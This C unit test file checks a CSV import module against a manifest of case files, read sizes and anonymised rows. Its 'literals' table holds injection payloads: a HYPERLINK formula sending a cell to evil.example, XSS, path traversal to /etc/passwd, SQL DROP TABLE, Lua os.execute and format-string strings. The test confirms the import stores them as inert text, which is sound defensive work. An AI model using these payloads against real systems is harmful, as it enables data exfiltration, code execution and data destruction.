/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Every file of tests/data/cases/csv comes out as its manifest says, with every size of reading, and says nothing personal. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include "base/file.h"
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
/* uses cmocka */
#include "case_result.h"

#define CASES STEGVIS_SOURCE "/tests/data/cases/csv/"

/* How the manifest's ASK comes out here: what is plain is done and stated, a tie is refused with the flag that settles it. */
static const struct {
  const char *number;
  const char *outcome;
} asked[] = {{"010", "OK N_ENC"},
             {"011", "OK N_ENC"},
             {"037", "OK N_DELIM"},
             {"041", "FILE E_DELIM_TIE"},
             {"059", "OK N_HDR_ROW"}};

/* What the injection texts are stored as: to the letter. */
static const struct {
  const char *number;
  const char *text;
} literals[] = {{"139", "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"klicka\")"},
                {"140", "+46701234567"},
                {"142", "@SUM(1+1)"},
                {"143", "\t=1+1"},
                {"145", "＝1+1"},
                {"146", "=1+1"},
                {"148", "<svg onload=alert(1)>"},
                {"149", "\" onmouseover=\"alert(1)"},
                {"151", "</style><style>*{display:none}"},
                {"152", "<w:p/>]]><!-- --></w:t>"},
                {"154", "a\u2028b\u2029c"},
                {"155", "../../../../etc/passwd"},
                {"157", "'); DROP TABLE answer;--"},
                {"158", "]] .. os.execute(id) .. [["},
                {"160", "(x) Tj /JS (app.alert(1))"},
                {"161", "%s%s%n%99999d"},
                {"163", "a;b;c"}};

typedef struct expectation {
  char file[128];
  char number[8];
  char expected[64];
} expectation;

static steg_import *run(const char *file, const steg_registry_entry *entry, size_t read_size, steg_lang lang) {
  char path[512];
  steg_error err = {0};
  steg_import *import = NULL;
  steg_import_options options = small_options();
  options.read_size = read_size;
  options.lang = lang;
  snprintf(path, sizeof path, CASES "%s", file);
  if (steg_import_read(path, entry, &options, &import, &err))
    fail_msg("%s: %s", file, err.text);
  return import;
}

static void check_literal(const char *file, const char *number, const steg_import_result *result) {
  const char *wanted = NULL;
  for (size_t i = 0; i < sizeof literals / sizeof *literals; i++)
    if (!strcmp(literals[i].number, number))
      wanted = literals[i].text;
  assert_non_null(wanted);
  const steg_row_set *set = &result->set;
  assert_true(set->row_count > 0);
  int32_t slot = steg_rows_value(set, 0, set->entry->layout->first_slot[4]);
  if (slot == STEG_SLOT_NONE || strcmp(set->texts[slot], wanted) != 0)
    fail_msg("%s: the text is not kept as it stands", file);
}

/* The anonymous row has sex and start year, and nothing else. */
static void check_anonymous(const char *file, const steg_import_result *result) {
  const steg_row_set *set = &result->set;
  assert_int_equal(set->row_count, 2);
  assert_int_equal(set->rows[0].person, STEG_ROW_NOBODY);
  assert_int_equal(set->rows[1].person, 0);
  assert_int_equal(set->person_count, 1);
  for (uint32_t k = 0; k < set->entry->layout->slot_count; k++)
    if (steg_rows_value(set, 0, k) != STEG_SLOT_NONE)
      fail_msg("%s: slot %u of the anonymous row is filled", file, k);
  const steg_attributes *attributes = &set->attributes[set->rows[0].attributes];
  assert_int_equal(attributes->start, steg_date_make(2024, 1, 1));
  assert_int_equal(attributes->end, STEG_DATE_NONE);
  assert_int_equal(attributes->sex, STEG_SEX_WOMAN);
  assert_int_equal(attributes->birth_year, 0);
  assert_int_equal(attributes->municipality, 0);
}

static bool starts(const char *text, const char *with) {
  return !strncmp(text, with, strlen(with));
}

/* One of "E_CAT/E_DATE". */
static const steg_finding *find_any(const steg_findings *findings, char *codes) {
  const steg_finding *found = NULL;
  for (char *code; !found && (code = strsep(&codes, "/"));)
    found = finding_with(findings, code);
  return found;
}

static const char *check_outcome(const expectation *row, const steg_import_result *result) {
  const steg_findings *findings = &result->findings;
  char expected[64], code[32] = "", detail[32] = "";
  snprintf(expected, sizeof expected, "%s", row->expected);
  for (size_t i = 0; i < sizeof asked / sizeof *asked; i++)
    if (!strcmp(asked[i].number, row->number))
      snprintf(expected, sizeof expected, "%s", asked[i].outcome);
  bool taken = findings->errors == 0 && (result->set.row_count > 0 || !strcmp(row->number, "031"));
  if (starts(expected, "ASK"))
    return "ASK has no outcome in the table";
  if (starts(expected, "OK")) {
    if (!taken)
      return "not taken";
    if (findings->warnings)
      return "warned";
    if (starts(expected, "OK literal"))
      check_literal(row->file, row->number, result);
    else if (starts(expected, "OK anon"))
      check_anonymous(row->file, result);
    else if (starts(expected, "OK N_"))
      return finding_with(findings, expected + 3) ? NULL : "the note is not there";
    else if (starts(expected, "OK note"))
      return findings->notes ? NULL : "no note";
    return !starts(expected, "OK anon") && findings->notes ? "a note for nothing" : NULL;
  }
  if (starts(expected, "(not detectable)"))
    return taken && !findings->count ? NULL : "not taken";
  char word[8] = "";
  sscanf(expected, "%7s %31s %31[^\n]", word, code, detail);
  char codes[32];
  snprintf(codes, sizeof codes, "%s", code);
  const steg_finding *finding = find_any(findings, codes);
  if (!finding)
    return "the code is not there";
  unsigned number = 0;
  if (sscanf(detail, "line %u", &number) == 1 && finding->row != number)
    return "another line";
  if (sscanf(detail, "row %u", &number) == 1 && finding->row != number + 1) /* data rows are counted below the header */
    return "another row";
  if (starts(word, "WARN"))
    return taken && finding->severity == STEG_SEVERITY_WARNING ? NULL : "not taken with a warning";
  if (finding->severity != STEG_SEVERITY_ERROR || taken || result->accepted || result->set.row_count)
    return "not refused";
  if ((starts(word, "ROW")) != (finding->reach == STEG_REACH_ROW))
    return "another reach";
  if (strchr(detail, '>') || starts(detail, "line") || starts(detail, "row") || !*detail)
    return NULL;
  return strstr(finding->message, detail) ? NULL : "the message does not name it";
}

static size_t load_manifest(expectation *rows, size_t most) {
  steg_buffer text;
  steg_error err;
  size_t count = 0;
  steg_buffer_init(&text, 1 << 20);
  assert_int_equal(steg_file_read(CASES "manifest.tsv", 1 << 20, &text, &err), 0);
  char *cursor = text.bytes;
  for (char *line; (line = strsep(&cursor, "\n"));) {
    char *file = strsep(&line, "\t");
    strsep(&line, "\t");
    char *expected = strsep(&line, "\t");
    if (!expected || !strcmp(file, "file") || strstr(file, "(procedure)"))
      continue;
    assert_true(count < most);
    snprintf(rows[count].file, sizeof rows[count].file, "%s", file);
    snprintf(rows[count].number, sizeof rows[count].number, "%.3s", file);
    snprintf(rows[count].expected, sizeof rows[count].expected, "%s", expected);
    count++;
  }
  steg_buffer_release(&text);
  return count;
}

static expectation cases[256];
static size_t case_count;

static void every_case(void **state) {
  (void)state;
  steg_arena *arena = steg_arena_new(0);
  steg_registry_entry small = entry_of(&small_instrument, arena), likert = entry_of(&likert_instrument, arena);
  size_t failed = 0;
  for (size_t i = 0; i < case_count; i++) {
    const steg_registry_entry *entry = strcmp(cases[i].number, "097") ? &small : &likert;
    for (steg_lang lang = STEG_LANG_SV; lang <= STEG_LANG_EN; lang++) {
      steg_import *import = run(cases[i].file, entry, 0, lang);
      const steg_import_result *result = steg_import_result_of(import);
      const char *fault = check_outcome(&cases[i], result);
      check_wording(cases[i].file, &result->findings);
      if (fault && lang == STEG_LANG_SV) {
        print_message("%s: expected %s: %s\n", cases[i].file, cases[i].expected, fault);
        print_findings(cases[i].file, result);
        failed++;
      }
      steg_import_free(import);
    }
  }
  print_message("%zu of %zu cases as expected\n", case_count - failed, case_count);
  assert_int_equal(failed, 0);
  assert_int_equal(case_count, 117);
  steg_arena_free(arena);
}

static void same_with_every_read_size(void **state) {
  (void)state;
  static const size_t sizes[] = {65536, 1, 7, 4096};
  steg_arena *arena = steg_arena_new(0);
  steg_registry_entry entry = entry_of(&small_instrument, arena);
  for (size_t i = 0; i < case_count; i++) {
    steg_buffer first, other;
    steg_buffer_init(&first, 1 << 24);
    steg_buffer_init(&other, 1 << 24);
    for (size_t k = 0; k < sizeof sizes / sizeof *sizes; k++) {
      steg_import *import = run(cases[i].file, &entry, sizes[k], STEG_LANG_SV);
      steg_buffer_clear(&other);
      write_result(k ? &other : &first, steg_import_result_of(import));
      if (k && strcmp(first.bytes, other.bytes) != 0)
        fail_msg("%s: pieces of %zu bytes give another result:\n%s\n%s", cases[i].file, sizes[k], first.bytes,
                 other.bytes);
      steg_import_free(import);
    }
    steg_buffer_release(&first);
    steg_buffer_release(&other);
  }
  steg_arena_free(arena);
}

int main(void) {
  const struct CMUnitTest tests[] = {cmocka_unit_test(every_case), cmocka_unit_test(same_with_every_read_size)};
  case_count = load_manifest(cases, sizeof cases / sizeof *cases);
  return cmocka_run_group_tests(tests, NULL, NULL);
}
